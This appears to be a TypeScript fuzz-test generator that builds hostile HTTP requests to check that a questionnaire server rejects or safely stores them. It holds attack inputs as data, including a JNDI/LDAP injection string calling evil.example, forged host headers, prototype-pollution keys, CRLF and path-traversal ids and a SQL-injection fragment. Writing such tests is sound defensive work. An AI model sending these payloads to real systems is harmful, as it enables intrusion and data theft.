import fc from 'fast-check'
import { LONGEST_ANSWER } from '../questionnaire/answers.ts'
import { type FieldName, fieldNamed, fieldNames } from '../questionnaire/fields.ts'
import { QUESTIONNAIRE_VERSION, VERSION_HEADER } from '../questionnaire/version.ts'
import { LONGEST_BODY } from '../server/read-body.ts'
import { noEmails, noPages, noRecords, otherTypes } from './hostile-texts.ts'
import { naughtyStrings } from './naughty-strings.ts'
import { answersOf, newId } from './visitor.ts'

/** One hostile request, and which answers to it are right. */
export interface HostileCase {
  readonly row: string
  readonly method: string
  readonly path: string
  readonly headers: Readonly<Record<string, string>>
  readonly body: Buffer
  readonly allowed: readonly number[]
  /** What has to be kept, byte for byte, when it is accepted. */
  readonly accepted?: { readonly id: string; readonly answers: Readonly<Record<string, string>> }
}

const JSON_HEADERS = { 'content-type': 'application/json', [VERSION_HEADER]: QUESTIONNAIRE_VERSION }
const REFUSED = [400, 403, 404, 405, 408, 411, 413, 414, 415, 417, 422, 431] as const
const openFields = fieldNames.filter((name) => ['text', 'long text'].includes(fieldNamed(name).kind))
const emailFields = fieldNames.filter((name) => fieldNamed(name).kind === 'email')
const optionFields = fieldNames.filter((name) => 'options' in fieldNamed(name))

const put = (row: string, body: unknown, more: Partial<HostileCase> = {}): HostileCase => ({
  row,
  method: 'PUT',
  path: `/api/projects/${newId()}`,
  headers: JSON_HEADERS,
  body: Buffer.isBuffer(body) ? body : Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)),
  allowed: REFUSED,
  ...more,
})

const withAnswer = (name: string, answer: unknown): Record<string, unknown> => ({
  ...answersOf(newId()),
  [name]: answer,
})

const text = fc.oneof(
  fc.constantFrom(...naughtyStrings),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 200 }),
)
const field = (names: readonly FieldName[]) => fc.constantFrom(...names)
const isGood = (answer: string) =>
  answer.trim() !== '' && answer.length <= LONGEST_ANSWER && answer.isWellFormed() && !answer.includes('\0')

const goodText = fc
  .tuple(field(openFields), text.filter(isGood))
  .map(([name, answer]) => kept('3.6 3.7 3.8', { [name]: answer }))

/** Letters that the judge lets into a domain, among them such as have a byte that would end a header's line. */
const letter = fc.constantFrom(
  'a',
  '-a',
  'ü',
  '字',
  '\u05d0',
  '\u010d\u010a',
  '\u010a',
  '\u013a',
  '\u0120',
  '\u012e',
)
const label = fc.array(letter, { minLength: 1, maxLength: 12 }).map((letters) => `x${letters.join('')}`)
const strangeEmail = fc
  .tuple(field(emailFields), fc.array(label, { minLength: 1, maxLength: 4 }))
  .map(([name, labels]) => kept('3.8', { [name]: `o'hara+{x}@${labels.join('.')}` }))

function kept(row: string, changes: Readonly<Record<string, string>>): HostileCase {
  const id = newId()
  const answers = answersOf(id, changes)
  return put(row, answers, { path: `/api/projects/${id}`, allowed: [201], accepted: { id, answers } })
}

/** A submission that is good in all but the headers around it: they change nothing. */
const strangeHeaders = fc
  .constantFrom<Record<string, string>>(
    { host: 'evil.example' },
    { host: 'evil.example:99999' },
    { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', forwarded: 'host=evil.example' },
    { 'x-http-method-override': 'DELETE', 'x-original-url': '/desk', 'x-rewrite-url': '/desk' },
    { 'user-agent': '{"level":60,"msg":"forged"}', 'x-request-id': '{"level":60}', referer: 'evil.example' },
    { 'user-agent': `\${jndi:ldap://evil.example}`, 'x-request-id': '"},{"forged":"yes' },
    { 'user-agent': 'forged '.repeat(1000), cookie: 'a=b; '.repeat(1000) },
    { 'user-agent': '', accept: '*/*;q=1e400', 'accept-language': '\u00ff'.repeat(100), range: 'bytes=9-1' },
  )
  .map((headers) => {
    const id = newId()
    const answers = answersOf(id)
    return put('3.14 3.15', answers, {
      path: `/api/projects/${id}`,
      headers: { ...JSON_HEADERS, ...headers },
      allowed: [201],
      accepted: { id, answers },
    })
  })

const preflight = fc.constantFrom('https://evil.example', 'null', 'http://127.0.0.1').map((origin) => ({
  row: '3.14',
  method: 'OPTIONS',
  path: `/api/projects/${newId()}`,
  headers: {
    origin,
    'access-control-request-method': 'PUT',
    'access-control-request-headers': 'content-type',
  },
  body: Buffer.alloc(0),
  allowed: REFUSED,
}))

const badValue = fc
  .tuple(
    field(fieldNames),
    fc.oneof(
      fc.double(),
      fc.boolean(),
      fc.constant(null),
      fc.array(fc.string(), { maxLength: 2 }),
      fc.dictionary(fc.string(), fc.string(), { maxKeys: 2 }),
      fc.constantFrom('\0', 'a\0b', '\ud800', 'a\udc00', 'x'.repeat(LONGEST_ANSWER + 1), 'x'.repeat(200_000)),
    ),
  )
  .map(([name, value]) => put('3.4', withAnswer(name, value)))

const missing = field(fieldNames.filter((name) => !fieldNamed(name).optional)).map((name) => {
  const { [name]: _left, ...rest } = answersOf(newId())
  return put('3.4', rest)
})

const noOption = fc
  .tuple(field(optionFields.filter((name) => !('other' in fieldNamed(name)))), text)
  .filter(
    ([name, answer]) =>
      answer.trim() !== '' && !JSON.stringify(fieldNamed(name)).includes(JSON.stringify(answer)),
  )
  .map(([name, answer]) => put('3.4', withAnswer(name, answer)))

const badEmail = fc
  .tuple(field(emailFields), fc.constantFrom(...noEmails))
  .map(([name, answer]) => put('3.5', withAnswer(name, answer)))

const badBody = fc.oneof(
  fc.uint8Array({ maxLength: 300 }).map((bytes) => put('3.1', Buffer.from(bytes))),
  fc
    .json()
    .filter((json) => !/^\s*\{/.test(json))
    .map((json) => put('3.1', json)),
  fc.constantFrom(...noRecords).map((body) => put('3.1', body)),
  fc
    .constantFrom('__proto__', 'constructor', 'prototype', '__pro\\u0074o__')
    .map((key) =>
      put('3.1', `${JSON.stringify(answersOf(newId())).slice(0, -1)},"${key}":{"polluted":"yes"}}`),
    ),
  field(fieldNames).map((name) =>
    put('3.1', `${JSON.stringify(answersOf(newId())).slice(0, -1)},"${name}":"other@example.com"}`),
  ),
  fc
    .constantFrom(
      Buffer.from('\ufeff{}'),
      Buffer.from('{}', 'utf16le'),
      Buffer.from([0x7b, 0xc0, 0xaf, 0x7d]),
      Buffer.from('['.repeat(10_000)),
      Buffer.alloc(LONGEST_BODY + 1, 0x20),
      Buffer.alloc(1_000_000, 0x61),
    )
    .map((bytes) => put('3.1', bytes)),
  fc
    .integer({ min: 1, max: 3000 })
    .map((keys) =>
      put('3.1', Object.fromEntries(Array.from({ length: keys }, (_, key) => [`k${key}`, 'x']))),
    ),
)

const badType = fc.constantFrom(...otherTypes).map((type) =>
  put('3.2', answersOf(newId()), {
    headers: { ...JSON_HEADERS, 'content-type': type },
    allowed: [415, 400],
  }),
)

const encoded = fc.constantFrom('gzip', 'br', 'deflate', 'zstd', 'gzip, gzip', 'identity').map((encoding) =>
  put('3.3', answersOf(newId()), {
    headers: { ...JSON_HEADERS, 'content-encoding': encoding },
    allowed: [415],
  }),
)

const badId = fc
  .oneof(
    fc.string({ maxLength: 40 }),
    fc.constantFrom(
      '',
      '..',
      '%2e%2e',
      'x'.repeat(300),
      '%00',
      '%0d%0aX: y',
      'a/b',
      "';drop",
      'é'.repeat(11),
    ),
  )
  .filter((id) => !/^[\w-]{22}$/.test(id) && id !== '.' && !/[?#]/.test(id))
  .map((id) =>
    put('3.9', answersOf(newId()), { path: `/api/projects/${encodeURI(id).replaceAll(' ', '%20')}` }),
  )

const elsewhere = fc
  .constantFrom<Record<string, string>>(
    { origin: 'https://evil.example' },
    { origin: 'null' },
    { 'sec-fetch-site': 'cross-site' },
    { 'sec-fetch-site': 'same-site' },
    { origin: 'http://127.0.0.1.evil.example' },
  )
  .map((headers) =>
    put('3.14', answersOf(newId()), { headers: { ...JSON_HEADERS, ...headers }, allowed: [403] }),
  )

const badPath = fc
  .tuple(
    fc.constantFrom('GET', 'HEAD', 'POST', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND'),
    fc.constantFrom(...noPages),
  )
  .map(([method, path]) => ({
    row: '3.10 3.11',
    method,
    path,
    headers: {},
    body: Buffer.alloc(0),
    allowed: [...REFUSED, 501],
  }))

/** The same cases for the same seed. */
export function hostileCases(count: number, seed: number): readonly HostileCase[] {
  const any = fc.oneof(
    { weight: 1, arbitrary: goodText },
    { weight: 1, arbitrary: strangeEmail },
    { weight: 6, arbitrary: badValue },
    { weight: 2, arbitrary: missing },
    { weight: 4, arbitrary: noOption },
    { weight: 4, arbitrary: badEmail },
    { weight: 6, arbitrary: badBody },
    { weight: 2, arbitrary: badType },
    { weight: 1, arbitrary: encoded },
    { weight: 3, arbitrary: badId },
    { weight: 1, arbitrary: elsewhere },
    { weight: 1, arbitrary: strangeHeaders },
    { weight: 1, arbitrary: preflight },
    { weight: 4, arbitrary: badPath },
  )
  return fc.sample(any, { numRuns: count, seed })
}
